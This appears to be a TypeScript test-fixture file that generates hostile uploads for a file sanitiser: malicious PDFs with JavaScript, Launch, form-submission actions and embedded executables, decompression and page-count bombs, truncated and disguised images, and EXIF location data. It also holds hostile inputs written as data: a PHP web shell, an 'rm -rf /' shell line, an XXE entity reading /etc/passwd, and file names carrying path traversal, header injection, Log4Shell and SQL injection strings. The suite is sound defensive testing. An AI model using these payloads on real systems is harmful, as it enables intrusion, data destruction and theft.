// Four hundred files that nobody means well with. Each says what may become of it: refused with a code, or taken and then harmless.
import { deflateSync, gzipSync } from "node:zlib";
import { crc32 } from "node:zlib";
import sharp from "sharp";
import { paper, photo, picture } from "../files";

export type Hostile = {
  readonly what: string;
  readonly name: string;
  readonly type: string;
  readonly bytes: Buffer;
  /** `refused`: never taken. `harmless`: may be taken, when nothing of what is hostile is left in what is kept. */
  readonly wanted: "refused" | "harmless";
  /** Bytes that may not be in what is kept. */
  readonly never?: readonly string[];
};

const text = (content: string) => Buffer.from(content, "latin1");
const html = "<html><script>alert(document.domain)</script></html>";

/** A PDF written by hand: numbered objects, a table of addresses, a trailer. `more` stands in the catalogue. */
export function pdf(objects: readonly (string | Buffer)[], { more = "", trailer = "", version = "1.7" } = {}): Buffer {
  const parts: Buffer[] = [text(`%PDF-${version}\n`)];
  const at: number[] = [];
  const length = () => parts.reduce((sum, part) => sum + part.length, 0);
  const all = [`<< /Type /Catalog /Pages 2 0 R ${more} >>`, ...objects];
  all.forEach((object, index) => {
    at.push(length());
    parts.push(text(`${index + 1} 0 obj\n`), typeof object === "string" ? text(object) : object, text("\nendobj\n"));
  });
  const table = length();
  const rows = at.map((place) => `${String(place).padStart(10, "0")} 00000 n \n`).join("");
  parts.push(text(`xref\n0 ${all.length + 1}\n0000000000 65535 f \n${rows}`));
  parts.push(text(`trailer\n<< /Size ${all.length + 1} /Root 1 0 R ${trailer} >>\nstartxref\n${table}\n%%EOF\n`));
  return Buffer.concat(parts);
}

const pages = "<< /Type /Pages /Kids [3 0 R] /Count 1 >>";
const page = (more = "") => `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] ${more} >>`;
/** One blank page, and what stands beside it. */
export const blank = (more: readonly (string | Buffer)[] = [], how: Parameters<typeof pdf>[1] = {}) =>
  pdf([pages, page(), ...more], how);

const stream = (dictionary: string, body: Buffer) =>
  Buffer.concat([text(`<< ${dictionary} /Length ${body.length} >>\nstream\n`), body, text("\nendstream")]);

/** Objects folded into a stream, as modern writers do. */
const folded = (inside: string, filter: "FlateDecode" | "none" = "FlateDecode") => {
  const body = text(`9 0 ${inside}`);
  const packed = filter === "none" ? body : deflateSync(body);
  return stream(`/Type /ObjStm /N 1 /First 4 ${filter === "none" ? "" : "/Filter /FlateDecode"}`, packed);
};

const refused = (what: string, bytes: Buffer, name = "a.pdf", type = "application/pdf"): Hostile => ({
  what,
  name,
  type,
  bytes,
  wanted: "refused",
});

/** A name with some letters written as #xx. */
const escaped = (name: string, every: number) =>
  Array.from(name, (letter, at) => (at % every === 0 ? `#${letter.charCodeAt(0).toString(16)}` : letter)).join("");

const actions: readonly (readonly [string, string])[] = [
  ["JavaScript", "/S /JavaScript /JS (app.alert(1))"],
  ["Launch", "/S /Launch /F (cmd.exe)"],
  ["SubmitForm", "/S /SubmitForm /F (http://mal.example)"],
  ["ImportData", "/S /ImportData /F (x.fdf)"],
  ["GoToR", "/S /GoToR /F (autre.pdf) /D [0 /Fit]"],
  ["GoToE", "/S /GoToE /D [0 /Fit]"],
  ["Rendition", "/S /Rendition /OP 0"],
  ["Movie", "/S /Movie /T (x)"],
  ["Sound", "/S /Sound /Sound 9 0 R"],
  ["RichMediaExecute", "/S /RichMediaExecute"],
  ["Hide", "/S /Hide /T (x)"],
  ["ResetForm", "/S /ResetForm"],
];

/** Each action in each place that could hold it, plain, escaped and folded. */
function activePdfs(): Hostile[] {
  return actions.flatMap(([name, body]) => {
    const hidden = (every: number) =>
      body.replace(`/S /${name}`, `/S /${escaped(name, every)}`).replace("/JS ", `/${escaped("JS", every)} `);
    return [
      refused(`${name} at the opening`, blank([], { more: `/OpenAction << ${body} >>` })),
      refused(`${name} by reference`, blank([`<< ${body} >>`], { more: "/OpenAction 4 0 R" })),
      refused(`${name} when a page opens`, pdf([pages, page(`/AA << /O << ${body} >> >>`)])),
      refused(`${name} on a link`, pdf([pages, page(`/Annots [<< /Subtype /Link /A << ${body} >> >>]`)])),
      refused(`${name}, every letter escaped`, blank([`<< ${hidden(1)} >>`])),
      refused(`${name}, every third letter escaped`, blank([`<< ${hidden(3)} >>`])),
      refused(`${name} folded`, blank([folded(`<< ${body} >>`)])),
      refused(`${name} folded and escaped`, blank([folded(`<< ${hidden(2)} >>`)])),
      refused(`${name} in an object stream that is not packed`, blank([folded(`<< ${body} >>`, "none")])),
      refused(`${name} hidden in the bytes of a stream`, blank([stream("", text(`xx\n8 0 obj\n<< ${body} >>\nendobj\n`))])),
      refused(`${name} that no page uses`, blank(["<< /Un /Deux >>", `<< /Type /Action ${body} >>`])),
      refused(`${name} as the next of a harmless one`, blank([`<< /S /GoTo /D [3 0 R /Fit] /Next << ${body} >> >>`])),
    ];
  });
}

function carryingPdfs(): Hostile[] {
  const file = stream("/Type /EmbeddedFile", text("MZ"));
  return [
    refused(
      "an embedded file",
      blank([file, "<< /Type /Filespec /F (a.exe) /EF << /F 4 0 R >> >>"], {
        more: "/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>",
      }),
    ),
    refused("an embedded file, escaped", blank([stream(`/Type /${escaped("EmbeddedFile", 2)}`, text("MZ"))])),
    refused("an attached file on a page", pdf([pages, page("/Annots [<< /Subtype /FileAttachment >>]")])),
    refused("associated files", blank([], { more: "/AF [4 0 R]" })),
    refused("a portfolio", blank([], { more: "/Collection << /View /D >>" })),
    refused("an XFA form", blank([], { more: "/AcroForm << /XFA 4 0 R >>" })),
    refused("an XFA form, escaped", blank([], { more: `/AcroForm << /${escaped("XFA", 1)} 4 0 R >>` })),
    refused("an XFA form, folded", blank([folded("<< /XFA [(a) 4 0 R] >>")])),
    refused("rich media", pdf([pages, page("/Annots [<< /Subtype /RichMedia >>]")])),
    refused("a screen", pdf([pages, page("/Annots [<< /Subtype /Screen >>]")])),
    refused("a 3D scene", pdf([pages, page("/Annots [<< /Subtype /3D >>]")])),
    refused("scripts by name", blank([], { more: "/Names << /JavaScript << /Names [(a) 4 0 R] >> >>" })),
    refused("a web address at the opening", blank([], { more: "/OpenAction << /S /URI /URI (http://mal.example) >>" })),
    refused("locked", blank(["<< /Filter /Standard /V 2 /R 3 /O (x) /U (y) /P -44 >>"], { trailer: "/Encrypt 4 0 R" })),
    refused("locked, escaped", blank([], { trailer: `/${escaped("Encrypt", 2)} 4 0 R` })),
    refused(
      "locked, in a table that is a stream",
      blank([stream("/Type /XRef /Encrypt 4 0 R /W [1 1 1] /Size 1", Buffer.alloc(3))]),
    ),
    refused(
      "objects packed twice",
      blank([
        stream("/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode]", deflateSync(deflateSync(text("9 0 << >>")))),
      ]),
    ),
    refused(
      "objects packed as letters",
      blank([stream("/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]", text("00>"))]),
    ),
    refused(
      "objects packed with a predictor",
      blank([
        stream(
          "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /DecodeParms << /Predictor 12 >>",
          deflateSync(text("9 0 << >>")),
        ),
      ]),
    ),
    refused("objects in another file", blank([stream("/Type /ObjStm /F (x)", text("9 0 << >>"))])),
    refused("objects that do not unfold", blank([stream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", text("not zlib"))])),
    refused("two types in one dictionary", blank([stream("/Type /X /Type /ObjStm", text("9 0 << >>"))])),
  ];
}

function bombPdfs(): Hostile[] {
  const many = (count: number) => Array.from({ length: count }, () => page());
  const kids = (count: number) => `<< /Type /Pages /Kids [${Array.from({ length: count }, () => "3 0 R").join(" ")}] /Count 1 >>`;
  return [
    ...[31, 60, 200].map((millions) =>
      refused(
        `objects that unfold to ${millions} MB`,
        blank([stream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", deflateSync(Buffer.alloc(millions * 1_000_000, 32)))]),
      ),
    ),
    refused(
      "many bombs of 9 MB",
      blank(
        Array.from({ length: 8 }, () =>
          stream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", deflateSync(Buffer.alloc(9_000_000, 32))),
        ),
      ),
    ),
    refused("201 pages", pdf([pages, ...many(201)])),
    refused("10,000 pages", pdf([pages, ...many(10_000)])),
    refused("10,000 pages that are one", pdf([kids(10_000), page()])),
    refused("a count of pages that lies", pdf(["<< /Type /Pages /Kids [3 0 R] /Count 999999999 >>", page()])),
    ...[100, 5_000, 200_000].map((depth) =>
      refused(`${depth} lists in each other`, blank(["[".repeat(depth) + "]".repeat(depth)])),
    ),
    ...[100, 5_000, 100_000].map((depth) =>
      refused(`${depth} dictionaries in each other`, blank(["<< /A ".repeat(depth) + "1" + ">>".repeat(depth)])),
    ),
    refused("three million words", blank([`[${"1 ".repeat(3_200_000)}]`])),
    refused("brackets that never close", blank([`(${"(".repeat(100_000)}`])),
    refused("folded pages, ten thousand", pdf([pages, folded(page().repeat(10_000))])),
  ];
}

async function brokenPdfs(): Promise<Hostile[]> {
  const whole = await paper(2);
  const cuts = Array.from({ length: 30 }, (_, at) => Math.floor((whole.length * (at + 1)) / 31));
  return [
    ...cuts.map((cut) => refused(`a PDF cut at ${cut}`, whole.subarray(0, cut))),
    refused("a PDF after a page", Buffer.concat([text(html), whole])),
    refused("a PDF before a page", Buffer.concat([whole, text(html)])),
    refused("a PDF before an archive", Buffer.concat([whole, text("PK\u0003\u0004"), Buffer.alloc(60)])),
    refused("a PDF before a program", Buffer.concat([whole, text("MZ\u0090")])),
    refused("two PDFs, the second with a script", Buffer.concat([whole, blank([`<< /S /JavaScript /JS (1) >>`])])),
    refused("only a head", text("%PDF-1.7\n")),
    refused("only a head and a tail", text("%PDF-1.7\nstartxref\n0\n%%EOF")),
    refused("no such version", blank([], { version: "9.9" })),
    refused("without pages", pdf(["<< /Type /Pages /Kids [] /Count 0 >>"])),
    refused(
      "a table that is nowhere",
      text(
        blank()
          .toString("latin1")
          .replace(/startxref\n\d+/, "startxref\n99999999"),
      ),
    ),
    refused(
      "a table in a text",
      text(
        blank()
          .toString("latin1")
          .replace(/startxref\n\d+/, "startxref\n20"),
      ),
    ),
    refused(
      "a stream without end",
      text(
        blank([stream("", text("abc"))])
          .toString("latin1")
          .replace("endstream", "endstrxam"),
      ),
    ),
    refused("a stream without dictionary", blank(["[1 2 3]\nstream\nabc\nendstream"])),
    refused("a lone bracket", blank([">"])),
    refused("a key that is a number", blank(["<< 1 2 >>"])),
    refused("a text without end", blank(["(abc"])),
    refused("letters that are none", blank(["<zzzz>"])),
    refused("nulls", Buffer.concat([text("%PDF-1.7\n"), Buffer.alloc(100_000)])),
    refused("a PDF in a PDF", blank([stream("", blank())])),
  ];
}

// PNG: pieces with their sums.
const piece = (kind: string, body: Buffer) => {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(body.length);
  const sum = Buffer.alloc(4);
  sum.writeUInt32BE(crc32(Buffer.concat([text(kind), body])) >>> 0);
  return Buffer.concat([length, text(kind), body, sum]);
};
const head = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
const header = (width: number, height: number, depth = 8, colour = 0) => {
  const body = Buffer.alloc(13);
  body.writeUInt32BE(width >>> 0, 0);
  body.writeUInt32BE(height >>> 0, 4);
  body.set([depth, colour], 8);
  return piece("IHDR", body);
};
const png = (width: number, height: number, pixels = Buffer.alloc(100)) =>
  Buffer.concat([head, header(width, height), piece("IDAT", deflateSync(pixels)), piece("IEND", Buffer.alloc(0))]);

/** A JPEG that says another size than it has. */
function jpegOfSize(bytes: Buffer, width: number, height: number): Buffer {
  const copy = Buffer.from(bytes);
  const at = copy.findIndex((byte, index) => byte === 0xff && [0xc0, 0xc1, 0xc2].includes(copy[index + 1] ?? 0) && index > 1);
  copy.writeUInt16BE(height, at + 5);
  copy.writeUInt16BE(width, at + 7);
  return copy;
}

const asJpeg = (what: string, bytes: Buffer, name = "a.jpg"): Hostile => refused(what, bytes, name, "image/jpeg");
const asPng = (what: string, bytes: Buffer, name = "a.png"): Hostile => refused(what, bytes, name, "image/png");

async function imageBombs(): Promise<Hostile[]> {
  const jpeg = await photo(60, 40);
  const huge = [
    [65_535, 65_535],
    [24_001, 1_000],
    [1_000, 24_001],
    [5_000, 4_801],
    [65_500, 400],
    [30_000, 30_000],
  ] as const;
  return [
    ...huge.map(([width, height]) => asJpeg(`a JPEG of ${width} by ${height}`, jpegOfSize(jpeg, width, height))),
    ...huge.map(([width, height]) => asPng(`a PNG of ${width} by ${height}`, png(width, height))),
    asPng("a PNG larger than any number", png(0x7fffffff, 0x7fffffff)),
    asPng("a PNG of negative size", png(-1, -1)),
    asPng("a PNG of no size", png(0, 0)),
    asJpeg("a JPEG of no size", jpegOfSize(jpeg, 0, 0)),
    asPng("a PNG bomb: 23 MP in a few kB, too few pixels", png(4_900, 4_700, Buffer.alloc(1_000_000))),
    asPng(
      "a PNG with too many pixels for its size",
      Buffer.concat([head, header(10, 10), piece("IDAT", Buffer.alloc(50)), piece("IEND", Buffer.alloc(0))]),
    ),
  ];
}

async function cutImages(): Promise<Hostile[]> {
  const [jpeg, whole] = [
    await photo(300, 200),
    await sharp({
      create: { width: 300, height: 200, channels: 3, background: "#123", noise: { type: "gaussian", mean: 100, sigma: 40 } },
    })
      .png()
      .toBuffer(),
  ];
  const parts = Array.from({ length: 18 }, (_, at) => (at + 1) / 20);
  return [
    ...parts.map((part) =>
      asJpeg(`a JPEG cut at ${Math.round(part * 100)} %`, jpeg.subarray(0, Math.floor(jpeg.length * part * 0.9))),
    ),
    ...parts.map((part) => asPng(`a PNG cut at ${Math.round(part * 100)} %`, whole.subarray(0, Math.floor(whole.length * part)))),
    asJpeg("only the head of a JPEG", jpeg.subarray(0, 4)),
    asPng("only the head of a PNG", head),
    asPng(
      "a PNG whose sum is wrong",
      Buffer.concat([
        head,
        header(4, 4).fill(0, 21),
        piece("IDAT", deflateSync(Buffer.alloc(20))),
        piece("IEND", Buffer.alloc(0)),
      ]),
    ),
  ];
}

const harmless = (what: string, bytes: Buffer, never: readonly string[], name = "a.jpg", type = "image/jpeg"): Hostile => ({
  what,
  name,
  type,
  bytes,
  wanted: "harmless",
  never,
});

/** Photos that carry something: a place, a name, a page, an archive, a script. What is kept carries none of it. */
async function carryingImages(): Promise<Hostile[]> {
  const [jpeg, small] = [await photo(60, 40), await picture()];
  const after = [
    ["a page", html, "<script>"],
    ["an archive", "PK\u0003\u0004secret.txtPK\u0005\u0006", "secret.txt"],
    ["a PDF with a script", blank(["<< /S /JavaScript /JS (1) >>"]).toString("latin1"), "/JavaScript"],
    ["PHP", "<?php system($_GET[0]); ?>", "<?php"],
    ["a shell", "#!/bin/sh\nrm -rf /\n", "/bin/sh"],
    ["a Java archive", "PK\u0003\u0004META-INF/MANIFEST.MF", "META-INF"],
  ] as const;
  const places = await Promise.all(
    Array.from({ length: 20 }, (_, at) =>
      sharp({ create: { width: 40 + at, height: 30, channels: 3, background: "#445566" } })
        .jpeg({ progressive: at % 2 === 0 })
        .withMetadata({ orientation: (at % 8) + 1 })
        .withExifMerge({
          IFD0: { Artist: `Personne ${at}`, Make: "Telephone" },
          IFD3: { GPSLatitudeRef: "N", GPSLatitude: `50/1 ${at}/1 0/1`, GPSLongitudeRef: "E", GPSLongitude: "3/1 57/1 0/1" },
        })
        .toBuffer(),
    ),
  );
  const comment = (body: string) =>
    Buffer.concat([
      jpeg.subarray(0, 2),
      Buffer.from([0xff, 0xfe, (body.length + 2) >> 8, (body.length + 2) & 255]),
      text(body),
      jpeg.subarray(2),
    ]);
  const noted = (kind: string, body: Buffer) => Buffer.concat([small.subarray(0, 33), piece(kind, body), small.subarray(33)]);
  return [
    ...places.map((bytes, at) => harmless(`a photo with a place, ${at}`, bytes, ["GPS", "Personne", "Telephone", "Exif"])),
    ...after.map(([what, body, sign]) => harmless(`a JPEG before ${what}`, Buffer.concat([jpeg, text(body)]), [sign, "Exif"])),
    ...after.map(([what, body, sign]) =>
      harmless(`a PNG before ${what}`, Buffer.concat([small, text(body)]), [sign], "a.png", "image/png"),
    ),
    ...after.map(([what, body, sign]) => harmless(`a JPEG with ${what} in a comment`, comment(body), [sign, "Exif"])),
    ...after.map(([what, body, sign]) =>
      harmless(`a PNG with ${what} in a note`, noted("tEXt", text(`Comment\u0000${body}`)), [sign], "a.png", "image/png"),
    ),
    harmless(
      "a PNG with a note that unfolds to 60 MB",
      noted("zTXt", Buffer.concat([text("Comment\u0000\u0000"), deflateSync(Buffer.alloc(60_000_000, 65))])),
      ["Comment"],
      "a.png",
      "image/png",
    ),
    harmless("a PNG with a place", noted("eXIf", text("II*\u0000GPSLatitude")), ["GPSLatitude"], "a.png", "image/png"),
    harmless(
      "a PNG with XMP",
      noted("iTXt", text('XML:com.adobe.xmp\u0000\u0000\u0000\u0000\u0000<x:xmpmeta exif:GPSLatitude="50"/>')),
      ["GPSLatitude", "xmpmeta"],
      "a.png",
      "image/png",
    ),
    harmless(
      "a PNG with a false profile",
      noted("iCCP", Buffer.concat([text("x\u0000\u0000"), deflateSync(text("pas un profil"))])),
      ["pas un profil"],
      "a.png",
      "image/png",
    ),
  ];
}

/** Other kinds of files, under names and types that lie. */
async function disguised(): Promise<Hostile[]> {
  const jpeg = await photo();
  const svg = text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>');
  const others: readonly (readonly [string, Buffer])[] = [
    ["SVG", svg],
    ["SVG with a head", Buffer.concat([text('<?xml version="1.0"?>'), svg])],
    ["HTML", text(html)],
    ["HTML with a mark", Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), text(html)])],
    ["XML with an entity", text('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>')],
    ["GIF", Buffer.concat([text("GIF89a"), Buffer.alloc(40)])],
    ["GIF that is a script", text("GIF89a=1;alert(1)//")],
    ["WebP", Buffer.concat([text("RIFF\u0020\u0000\u0000\u0000WEBPVP8 "), Buffer.alloc(40)])],
    ["HEIC", Buffer.concat([Buffer.from([0, 0, 0, 24]), text("ftypheic"), Buffer.alloc(40)])],
    ["AVIF", Buffer.concat([Buffer.from([0, 0, 0, 28]), text("ftypavif"), Buffer.alloc(40)])],
    ["TIFF", Buffer.concat([text("II*\u0000"), Buffer.alloc(40)])],
    ["BMP", Buffer.concat([text("BM"), Buffer.alloc(60)])],
    ["JPEG XL", Buffer.concat([Buffer.from([0xff, 0x0a]), Buffer.alloc(40)])],
    ["ZIP", Buffer.concat([text("PK\u0003\u0004"), Buffer.alloc(40)])],
    ["gzip", gzipSync(Buffer.alloc(1_000))],
    ["a program for Windows", Buffer.concat([text("MZ\u0090\u0000"), Buffer.alloc(60)])],
    ["a program for Linux", Buffer.concat([text("\u007fELF"), Buffer.alloc(60)])],
    ["an old Word", Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0]), Buffer.alloc(60)])],
    ["RTF", text("{\\rtf1 bonjour}")],
    ["PostScript", text("%!PS-Adobe-3.0\n(x) run")],
    ["text", text("Bonjour")],
    ["nulls", Buffer.alloc(5_000)],
    ["nothing", Buffer.alloc(0)],
    ["one byte", Buffer.from([0xff])],
  ];
  const disguises = [
    ["a.jpg", "image/jpeg"],
    ["a.png", "image/png"],
    ["a.pdf", "application/pdf"],
  ] as const;
  const lies = [
    ["a.png", "image/jpeg"],
    ["a.jpg", "image/png"],
    ["a.pdf", "image/jpeg"],
    ["a.jpg", "application/pdf"],
    ["a.jpg", "text/html"],
    ["a.html", "image/jpeg"],
    ["a.svg", "image/jpeg"],
    ["a.jpg.exe", "image/jpeg"],
    ["a.php", "image/jpeg"],
    ["a.jpg", "image/svg+xml"],
    ["a.heic", "image/heic"],
    ["a.jpg", "multipart/form-data"],
  ] as const;
  return [
    ...others.flatMap(([what, bytes]) => disguises.map(([name, type]) => refused(`${what} called ${name}`, bytes, name, type))),
    ...lies.map(([name, type]) => refused(`a JPEG called ${name}, of type ${type}`, jpeg, name, type)),
    refused("more than 10 MB", Buffer.concat([jpeg, Buffer.alloc(10_000_000)]), "a.jpg", "image/jpeg"),
    refused("10 MB and one byte of PDF", Buffer.concat([text("%PDF-1.7\n"), Buffer.alloc(9_999_992)])),
  ];
}

/** Good files with names that are none: what counts is the name they are given back under. */
export const hostileNames: readonly string[] = [
  "../../../etc/passwd.jpg",
  "..\\..\\windows\\system.jpg",
  "/etc/cron.d/a.jpg",
  "C:\\Users\\a.jpg",
  "a\u0000.jpg",
  "a\r\nSet-Cookie: x=1.jpg",
  "a\nContent-Type: text/html.jpg",
  'a"; filename="b.html.jpg',
  "a%22%0d%0aX: y.jpg",
  "\u202egpj.exe.jpg",
  "\u2066a\u2069.jpg",
  "<script>alert(1)</script>.jpg",
  "${jndi:ldap://mal.example}.jpg",
  "{{7*7}}.jpg",
  "'; drop table document; --.jpg",
  `${"a".repeat(3_000)}.jpg`,
  `${"é".repeat(500)}.jpg`,
  "😀".repeat(200) + ".jpg",
  ".jpg",
  "...jpg",
  "   .jpg",
  "con.jpg",
  "a:b:c.jpg",
  "مستند.jpg",
  "Résumé d’Yasmina.jpg",
  "a\u200b\u200c\u200d.jpg",
  "\ud800.jpg",
  "a\t\v\f.jpg",
];

async function named(): Promise<Hostile[]> {
  const bytes = await photo();
  return hostileNames.map((name) => harmless(`the name ${JSON.stringify(name).slice(0, 60)}`, bytes, ["GPS", "Exif"], name));
}

/** All of them, in the same order each time. */
export async function hostileFiles(): Promise<readonly Hostile[]> {
  return [
    ...activePdfs(),
    ...carryingPdfs(),
    ...bombPdfs(),
    ...(await brokenPdfs()),
    ...(await imageBombs()),
    ...(await cutImages()),
    ...(await carryingImages()),
    ...(await disguised()),
    ...(await named()),
  ];
}
